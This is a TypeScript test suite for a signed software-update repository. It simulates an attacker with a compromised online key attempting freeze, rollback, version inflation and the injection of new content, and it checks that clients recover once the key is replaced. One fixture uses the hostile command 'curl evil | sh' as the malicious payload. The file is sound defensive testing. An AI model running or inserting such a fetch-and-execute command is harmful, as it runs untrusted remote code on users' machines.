import { describe, expect } from 'vitest';
import { DAY_MS } from '../../src/clock.ts';
import { computeKeyid } from '../../src/metadata/key.ts';
import { onlineKey as keyObject } from '../../src/repository/documents.ts';
import { NOW } from '../support/world.ts';
import {
  drafted,
  edited,
  entryOf,
  files,
  onlineKey,
  pushToMain,
  read,
  serve,
  signed,
  strangeKey,
  type Wire,
} from './attacker.ts';
import { expectUnmoved, releaseTools } from './proofs.ts';
import { attack, type Client, type Scene, UPDATE } from './scene.ts';

const NEW = 'echo new\n';
const OLD = 'echo hello\n';
const LAST = Number.MAX_SAFE_INTEGER;

/** A snapshot of this version that lists `tools` in that one, and a timestamp that lists it, as whoever has the online key makes them. */
function forged(
  scene: Scene,
  version: number,
  tools: number,
  timestampVersion = version,
): Pick<Wire, 'snapshot' | 'timestamp'> {
  const { world } = scene;
  const key = onlineKey(world);
  const snapshot = edited(read(world, 'snapshot'), document => {
    document.version = version;
    document.meta['tools.json'] = { version: tools };
  });
  const timestamp = edited(read(world, 'timestamp'), document => {
    document.version = timestampVersion;
    document.expires = '2099-01-01T00:00:00Z';
    document.meta['snapshot.json'] = { version };
  });
  return { snapshot: signed(snapshot, key), timestamp: signed(timestamp, key) };
}

/** The way out: an event gives the online roles another key, root's quorum signs it, and the automation goes on with that. */
async function replaceKey(scene: Scene): Promise<void> {
  const { world } = scene;
  const uri = 'file:second.pem';
  const key = keyObject(await world.onlineKey(uri), uri);
  const keyid = computeKeyid(key);
  const root = drafted(read(world, 'root'), document => {
    const old = document.roles.timestamp.keyids;
    for (const gone of old) delete document.keys[gone];
    document.keys[keyid] = key;
    for (const role of ['snapshot', 'timestamp'] as const) document.roles[role].keyids = [keyid];
  });
  world.push(files({ root }));
  expect((await scene.page()).markdown).toContain('timestamp: file:&#8203;online.pem');
  for (const name of ['alice', 'bob'] as const) expect((await scene.sign(name)).signed).toEqual(['root']);
  expect((await scene.page()).verdict).toBe('accepted');
  // Where her files are in the way of names to come, somebody has to say so.
  const { online, published } = await scene.force(UPDATE, { repair: true });
  expect([online.done, published.done]).toEqual([true, true]);
}

/** Everybody goes on: automation counts from where it was honest, signers sign, and these clients and new ones get it. */
async function expectRecovered(scene: Scene, ...clients: readonly Client[]): Promise<void> {
  expect(read(scene.world, 'timestamp').signed.version).toBeLessThan(20);
  await releaseTools(scene, 'echo after\n');
  for (const client of [...clients, scene.client()]) {
    expect(await client.download('tools/greet.sh')).toBe('echo after\n');
  }
  await scene.expectWholeSite();
}

/**
 * Mallory has the online key, and the hosting or a push to main. She signs snapshot and timestamp as she likes. She can freeze
 * clients, show old quorum-signed versions to those who remember no newer ones, and count so far ahead that the automation is
 * behind; she can never bring anything new. The way out is an event that replaces the key: with it clients forget what it signed.
 */
describe('a compromised online key', () => {
  attack('never brings new content: it takes the quorum of the role', async scene => {
    const client = scene.client();
    await expectUnmoved(scene, client);
    const evil = 'curl evil | sh\n';
    const tools = drafted(
      read(scene.world, 'tools'),
      s => void (s.targets['tools/greet.sh'] = entryOf(evil)),
    );
    for (const hand of [onlineKey(scene.world), strangeKey('bob')]) {
      await serve(scene, { ...forged(scene, 2, 2), tools: signed(tools, hand) }, { 'tools/greet.sh': evil });
      expect(await client.download('tools/greet.sh')).toBe('QUORUM');
      expect(await scene.client().download('tools/greet.sh')).toBe('QUORUM');
    }
    await replaceKey(scene);
    await expectRecovered(scene, client);
  });

  attack(
    'freezes and mixes: who remembers refuses to go back, who does not gets what quorums signed',
    async scene => {
      const { world } = scene;
      const frozen = scene.client();
      await expectUnmoved(scene, frozen);
      const old = read(world, 'tools');
      await releaseTools(scene, NEW);
      const remembers = scene.client();
      expect(await remembers.download('tools/greet.sh')).toBe(NEW);

      await serve(scene, { ...forged(scene, 7, 1, 50), tools: old }, { 'tools/greet.sh': OLD });
      expect(await frozen.download('tools/greet.sh')).toBe(OLD);
      expect(await remembers.download('tools/greet.sh')).toBe('ROLLBACK');
      expect(await scene.client().download('tools/greet.sh')).toBe(OLD);
      // The honest site alone does not free whom she led on, and who publishes is told so...
      expect((await scene.publish()).rules).toEqual(['clients']);
      expect((await scene.publishAnew()).done).toBe(true);
      expect(await frozen.download('tools/greet.sh')).toBe('ROLLBACK');
      // ...another key does.
      await replaceKey(scene);
      expect(await frozen.download('tools/greet.sh')).toBe(NEW);
      await expectRecovered(scene, frozen, remembers);
    },
  );

  const ends = [
    ['on the site alone', false],
    ['on main, where the automation would count on from it', true],
  ] as const;
  for (const [where, onMain] of ends) {
    attack(`counts to the last version there is, ${where}: another key is the way out`, async scene => {
      const { world } = scene;
      const victim = scene.client();
      const pair = forged(scene, LAST, 1);
      if (onMain) pushToMain(world, files(pair));
      await serve(scene, pair);
      expect(await victim.download('tools/greet.sh')).toBe(OLD);
      world.clock.time = (NOW + 5 * DAY_MS) as typeof NOW;
      if (onMain) {
        // Not in the signing period yet, as she said 2099: but the next release needs a snapshot.
        scene.world.push({ 'targets/tools/greet.sh': NEW });
        await scene.update();
        for (const name of ['bob', 'carol'] as const) await scene.sign(name);
        const { online } = await scene.force();
        expect(online.refusal).toMatchObject({ code: 'REFUSED' });
        expect(online.refusal?.message).toContain('Replace it in root by an event');
      } else {
        expect((await scene.signOnline()).done).toBe(true);
        expect((await scene.publish()).rules).toEqual(['clients']);
        expect((await scene.publishAnew()).done).toBe(true);
        expect(await victim.download('tools/greet.sh')).toBe('ROLLBACK');
      }
      await replaceKey(scene);
      expect(await victim.download('tools/greet.sh')).toBe(onMain ? NEW : OLD);
      await expectRecovered(scene, victim);
    });
  }

  attack(
    'lists a role far ahead of what its quorum ever signed, on main: another key is the way out',
    async scene => {
      const { world } = scene;
      const victim = scene.client();
      const pair = forged(scene, 2, 1_000_000);
      pushToMain(world, files(pair));
      await serve(scene, pair);
      expect(await victim.download('tools/greet.sh')).toBe('NOT_FOUND');
      const online = await scene.signOnline();
      expect(online.refusal?.code).toBe('REFUSED');
      expect(online.refusal?.message).toContain('tools is version 1 on main, but clients have seen 1000000');
      expect(online.refusal?.message).toContain('replace the online key in root by an event');
      expect((await scene.publish()).rules).toEqual(['online']);
      await replaceKey(scene);
      expect(read(world, 'snapshot').signed.meta['tools.json']).toEqual({ version: 1 });
      expect(await victim.download('tools/greet.sh')).toBe(OLD);
      await expectRecovered(scene, victim);
    },
  );
});
